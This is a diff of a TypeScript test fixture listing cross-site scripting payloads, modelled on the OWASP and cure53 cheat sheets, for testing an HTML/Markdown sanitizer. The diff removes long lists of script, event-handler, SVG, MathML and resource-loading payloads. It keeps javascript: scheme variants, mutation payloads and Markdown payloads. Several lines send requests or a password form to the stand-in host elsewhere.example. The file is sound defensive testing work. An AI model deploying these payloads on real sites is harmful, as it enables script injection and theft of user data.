@@ -1,5 +1,5 @@
 /*
- * Markdown and HTML that try to run `hit()`, to ask `elsewhere.example`, or to change the page they
+ * What published-payloads.ts lacks: Markdown and HTML that try to run `hit()`, to ask `elsewhere.example`, or to change the page they
  * are put in. Written for these tests after the forms that are collected in
  * - OWASP, XSS Filter Evasion Cheat Sheet (CC BY-SA 4.0),
  * - cure53, HTML5 Security Cheatsheet (MPL 2.0) and the fixtures of DOMPurify (Apache 2.0, MPL 2.0),
@@ -54,15 +54,8 @@ const handlers = events.map((event, index) => {
   return `<${tag} ${rest} on${event}=hit()>a</${tag}>`;
 });
 
-/** Each carrier with the handlers that fire without a hand. */
-const selfFiring = carriers.flatMap(([tag, rest]) =>
-  ['error', 'load', 'focus', 'toggle'].map(
-    (event) => `<${tag} ${rest} on${event}="hit()">a</${tag}>`,
-  ),
-);
-
 /** Ways to write a scheme that a filter does not see and a browser does. */
-const schemes: readonly string[] = [
+export const schemes: readonly string[] = [
   'javascript:hit()',
   'JaVaScRiPt:hit()',
   'javascript:hit(&quot;a&quot;)',
@@ -114,213 +107,6 @@ const links = schemes.flatMap((address) => [
 ]);
 
 const pictures = schemes.filter((_, index) => index % 3 === 0).map((address) => `![a](${address})`);
-
-/** Script elements, whole, broken and hidden. */
-const scripts: readonly string[] = [
-  '<script>hit()</script>',
-  '<SCRIPT>hit()</SCRIPT>',
-  '<script src=//elsewhere.example/a.js></script>',
-  '<script/src="https://elsewhere.example/a.js"></script>',
-  '<script\n>hit()</script\n>',
-  '<script/x>hit()</script/x>',
-  '<script>hit()',
-  '<script type="module">hit()</script>',
-  '<script type="text/vbscript">hit()</script>',
-  '<script async defer crossorigin src=//elsewhere.example/a.js></script>',
-  '<script type="importmap">{"imports":{"a":"//elsewhere.example/a.js"}}</script>',
-  '<script type="speculationrules">{"prefetch":[{"urls":["//elsewhere.example/"]}]}</script>',
-  '<<script>hit();//<</script>',
-  '<scr<script>ipt>hit()</scr</script>ipt>',
-  '<scr\u0000ipt>hit()</scr\u0000ipt>',
-  '<script><!--//--><![CDATA[//><!--\nhit()\n//--><!]]></script>',
-  '</script><script>hit()</script>',
-  '</title><script>hit()</script>',
-  '</textarea><script>hit()</script>',
-  '"><script>hit()</script>',
-  "';hit()//",
-  '--><script>hit()</script>',
-  ']]><script>hit()</script>',
-  '<noscript><script>hit()</script></noscript>',
-  '<template><script>hit()</script></template>',
-  '<template shadowrootmode=open><script>hit()</script></template>',
-  '<div><template shadowrootmode="open"><img src=x onerror=hit()></template></div>',
-  '<!--[if gte IE 4]><script>hit()</script><![endif]-->',
-  '<?xml-stylesheet href="javascript:hit()"?>',
-  '<?php echo "<script>hit()</script>" ?>',
-  '<![CDATA[<script>hit()</script>]]>',
-  '<!DOCTYPE html [<!ENTITY a "<script>hit()</script>">]>&a;',
-  '<xml><script>hit()</script></xml>',
-  '<plaintext><script>hit()</script>',
-  '<xmp><script>hit()</script></xmp>',
-  '<listing><script>hit()</script></listing>',
-];
-
-/** Handlers in spellings that filters miss. */
-const spellings: readonly string[] = [
-  '<img src=x onerror=hit()>',
-  '<img src=x onerror=hit()//',
-  '<img src=`x` onerror=hit()>',
-  '<img/src/onerror=hit()>',
-  '<img src="x"onerror="hit()">',
-  "<img src='x'onerror=hit()>",
-  '<img src=x oNeRrOr=hit()>',
-  '<img src=x onerror\u000c=\u000chit()>',
-  '<img\u000bsrc=x onerror=hit()>',
-  '<img src=x:x onerror="&#104;it()">',
-  '<img src=x onerror="hit&#40;&#41;">',
-  '<img src=x onerror=hit&lpar;&rpar;>',
-  '<img src=x " onerror="hit()">',
-  '<img src="x` `<script>hit()</script>"` `>',
-  '<img """><script>hit()</script>">',
-  '<img src= onmouseover="hit()">',
-  '<img onmouseover="hit()">',
-  '<IMG SRC=/ onerror="hit()"></img>',
-  '<img src=x\u00a0onerror=hit()>',
-  '<img src="a" title="</p><img src=x onerror=hit()>">',
-  '<p title="--><img src=x onerror=hit()>">a</p>',
-  '<p/onclick=hit()>a</p>',
-  '<p =onclick=hit()>a</p>',
-  '<p a="b"onclick="hit()">a</p>',
-  '<p on\u0000click="hit()">a</p>',
-  '<p xonclick=1 onclick=hit()>a</p>',
-  '<a href="/" onclick=hit() onclick=1>a</a>',
-  '<x onclick=hit()>a</x>',
-  '<x:y onclick=hit()>a</x:y>',
-  '<b/alt="1"onmouseover=hit()>a</b>',
-  '<table><tr><td onclick=hit()>a</td></tr></table>',
-  '<input type="image" src=x onerror=hit()>',
-  '<isindex type=image src=1 onerror=hit()>',
-  '<video><source onerror="hit()"></video>',
-  '<video poster="javascript:hit()"></video>',
-  '<picture><source srcset=x><img onerror=hit()></picture>',
-  '<keygen autofocus onfocus=hit()>',
-  '<frameset onload=hit()><frame src="javascript:hit()"></frameset>',
-  '<body background="javascript:hit()">',
-  '<table background="javascript:hit()"><td background="javascript:hit()">a</td></table>',
-  '<img dynsrc="javascript:hit()" lowsrc="javascript:hit()">',
-  '<bgsound src="javascript:hit()">',
-  '<br size="&{hit()}">',
-  '<layer src="//elsewhere.example/a.html"></layer>',
-  '<ilayer src="//elsewhere.example/a.html"></ilayer>',
-];
-
-/** Documents in the document, forms and addresses that send something elsewhere. */
-const carriersOfRequests: readonly string[] = [
-  '<iframe src="javascript:hit()"></iframe>',
-  '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
-  '<iframe srcdoc="&lt;img src=x onerror=parent.hit()&gt;"></iframe>',
-  '<iframe src="//elsewhere.example/"></iframe>',
-  '<object data="javascript:hit()"></object>',
-  '<object data="data:text/html,<script>hit()</script>"></object>',
-  '<object><param name="movie" value="//elsewhere.example/a.swf"></object>',
-  '<object type="text/x-scriptlet" data="//elsewhere.example/a.html"></object>',
-  '<embed src="javascript:hit()">',
-  '<embed src="//elsewhere.example/a.svg" type="image/svg+xml">',
-  '<embed code="//elsewhere.example/a.swf" allowscriptaccess=always>',
-  '<applet code="a" archive="//elsewhere.example/a.jar"></applet>',
-  '<portal src="//elsewhere.example/"></portal>',
-  '<fencedframe src="//elsewhere.example/"></fencedframe>',
-  '<base href="//elsewhere.example/">',
-  '<base href="javascript:hit()//">',
-  '<meta http-equiv="refresh" content="0;url=javascript:hit()">',
-  '<meta http-equiv="refresh" content="0;url=//elsewhere.example/">',
-  '<meta http-equiv="refresh" content="0;url=data:text/html,hit">',
-  '<meta http-equiv="Set-Cookie" content="a=b">',
-  '<meta http-equiv="Content-Security-Policy" content="script-src *">',
-  '<meta charset="utf-7">+ADw-script+AD4-hit()+ADw-/script+AD4-',
-  '<link rel="stylesheet" href="//elsewhere.example/a.css">',
-  '<link rel=import href="//elsewhere.example/a.html">',
-  '<link rel=preload as=script href="//elsewhere.example/a.js">',
-  '<link rel=prefetch href="//elsewhere.example/">',
-  '<link rel=dns-prefetch href="//elsewhere.example/">',
-  '<link rel=manifest href="//elsewhere.example/a.json">',
-  '<style>@import "//elsewhere.example/a.css";</style>',
-  '<style>body{background:url(//elsewhere.example/a.png)}</style>',
-  '<style>li{list-style-image:url("javascript:hit()")}</style><ul><li>a</ul>',
-  '<style>p[title^=a]{background:url(//elsewhere.example/?a)}</style>',
-  '<p style="background:url(//elsewhere.example/a.png)">a</p>',
-  '<p style="background-image:url(&#1;javascript:hit())">a</p>',
-  '<p style="width:expression(hit())">a</p>',
-  '<p style="-moz-binding:url(//elsewhere.example/a.xml#a)">a</p>',
-  '<p style="behavior:url(//elsewhere.example/a.htc)">a</p>',
-  '<p style="position:fixed;inset:0;z-index:9999">a</p>',
-  '<img src="//elsewhere.example/a.png">',
-  '<img src="https://elsewhere.example/a.png" loading=eager>',
-  '<img srcset="//elsewhere.example/a.png 1x">',
-  '<img src="/\\elsewhere.example/a.png">',
-  '<img src="\\\\elsewhere.example\\a.png">',
-  '<img src="/\t/elsewhere.example/a.png">',
-  '<img src="https:elsewhere.example/a.png">',
-  '<img src="&#x2f;&#x2f;elsewhere.example/a.png">',
-  '![a](//elsewhere.example/a.png)',
-  '![a](https://elsewhere.example/a.png "b")',
-  '![a][b]\n\n[b]: //elsewhere.example/a.png',
-  '<picture><source srcset="//elsewhere.example/a.png"><img src="/a.png"></picture>',
-  '<video src="//elsewhere.example/a.mp4" autoplay></video>',
-  '<audio src="//elsewhere.example/a.mp3" autoplay></audio>',
-  '<video poster="//elsewhere.example/a.png"></video>',
-  '<track src="//elsewhere.example/a.vtt">',
-  '<input type=image src="//elsewhere.example/a.png">',
-  '<body background="//elsewhere.example/a.png">',
-  '<table background="//elsewhere.example/a.png"><tr><td>a</table>',
-  '<a href="/" ping="//elsewhere.example/">a</a>',
-  '<a href="//elsewhere.example/" attributionsrc="//elsewhere.example/b">a</a>',
-  '<blockquote cite="javascript:hit()">a</blockquote>',
-  '<q cite="javascript:hit()">a</q>',
-  '<img longdesc="javascript:hit()" src="/a.png">',
-  '<form action="javascript:hit()"><input type=submit autofocus></form>',
-  '<form action="//elsewhere.example/"><input name=password type=password></form>',
-  '<form id=f></form><button form=f formaction="javascript:hit()">a</button>',
-  '<button type=submit formaction="//elsewhere.example/">a</button>',
-  '<isindex action="javascript:hit()" type=submit value=a>',
-  '<map name=m><area shape=default href="javascript:hit()"></map><img usemap=#m src="/a.png">',
-];
-
-/** SVG and MathML, which browsers read by other rules. */
-const foreign: readonly string[] = [
-  '<svg onload=hit()>',
-  '<svg/onload=hit()>',
-  '<svg><script>hit()</script></svg>',
-  '<svg><script href="data:,hit()"/></svg>',
-  '<svg><script xlink:href="//elsewhere.example/a.js"></script></svg>',
-  '<svg><script>&#104;it()</script></svg>',
-  '<svg><script>hit&lpar;)</script></svg>',
-  '<svg><a href="javascript:hit()"><text x=20 y=20>a</text></a></svg>',
-  '<svg><a xlink:href="javascript:hit()"><rect width=9 height=9 /></a></svg>',
-  '<svg><a xmlns:x="http://www.w3.org/1999/xlink" x:href="javascript:hit()"><circle r=9 /></a></svg>',
-  '<svg><animate attributeName=href values="javascript:hit()" /></svg>',
-  '<svg><a><animate attributeName=href from="javascript:hit()" to=1 begin=0s /><text>a</text></a></svg>',
-  '<svg><set attributeName=onmouseover to=hit() /></svg>',
-  '<svg><set attributeName=href to="javascript:hit()" begin=0s /></svg>',
-  '<svg><animate onbegin=hit() attributeName=x dur=1s>',
-  '<svg><animateTransform onbegin=hit() attributeName=transform>',
-  '<svg><animateMotion onend=hit() dur=1ms />',
-  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=hit()></svg>#x"/></svg>',
-  '<svg><use xlink:href="//elsewhere.example/a.svg#a" /></svg>',
-  '<svg><image href="//elsewhere.example/a.png" /></svg>',
-  '<svg><feImage xlink:href="//elsewhere.example/a.png" /></svg>',
-  '<svg><image xlink:href="javascript:hit()" onerror=hit() /></svg>',
-  '<svg><foreignObject><iframe srcdoc="<script>parent.hit()</script>"></iframe></foreignObject></svg>',
-  '<svg><foreignObject><body onload=hit()></foreignObject></svg>',
-  '<svg><style>@import "//elsewhere.example/a.css";</style></svg>',
-  '<svg><style>*{fill:url(//elsewhere.example/a.svg#a)}</style></svg>',
-  '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">hit()</handler></svg>',
-  '<svg><discard onbegin=hit()>',
-  '<svg><title><img src=x onerror=hit()></title></svg>',
-  '<svg><desc><script>hit()</script></desc></svg>',
-  '<svg contentScriptType=text/vbs><script>hit()</script></svg>',
-  '<svg xmlns="http://www.w3.org/2000/svg"><g onload="hit()"></g></svg>',
-  '<svg><![CDATA[><img src=x onerror=hit()>]]></svg>',
-  '<math><a xlink:href="javascript:hit()">a</a></math>',
-  '<math href="javascript:hit()">a</math>',
-  '<math><mtext href="javascript:hit()">a</mtext></math>',
-  '<math><maction actiontype="statusline#//elsewhere.example" xlink:href="javascript:hit()">a</maction></math>',
-  '<math><annotation-xml encoding="text/html"><script>hit()</script></annotation-xml></math>',
-  '<math><annotation-xml encoding="application/xhtml+xml"><img src=x onerror=hit()></annotation-xml></math>',
-  '<math><mi onclick=hit()>a</mi></math>',
-  '<math><mglyph src="//elsewhere.example/a.png" /></math>',
-  '<math><semantics><annotation href="javascript:hit()">a</annotation></semantics></math>',
-];
 
 /** Markup that becomes another one when it is written out and read again. */
 const mutations: readonly string[] = [
@@ -448,24 +234,11 @@ const ofMarkdown: readonly string[] = [
   '\u202e<img src=x onerror=hit()>',
 ];
 
-/** Those that may swallow what comes after them. */
-const greedy = [
-  ...scripts,
-  ...spellings,
-  ...carriersOfRequests,
-  ...foreign,
-  ...mutations,
-  ...clobbering,
-  ...ofMarkdown,
-];
-
-const harmlessToOthers = [...handlers, ...selfFiring, ...links, ...pictures];
-
-/** How many attacks there are. */
-export const countOfPayloads = new Set([...greedy, ...harmlessToOthers]).size;
-
 /** All of them, as texts to be rendered one by one: many together where none swallows the next. */
-export const hostileTexts: readonly string[] = [...greedy, ...inParts(harmlessToOthers, 20)];
+export const hostileTexts: readonly string[] = [
+  ...[...mutations, ...clobbering, ...ofMarkdown],
+  ...inParts([...handlers, ...links, ...pictures], 20),
+];
 
 function inParts(payloads: readonly string[], size: number): string[] {
   const count = Math.ceil(payloads.length / size);
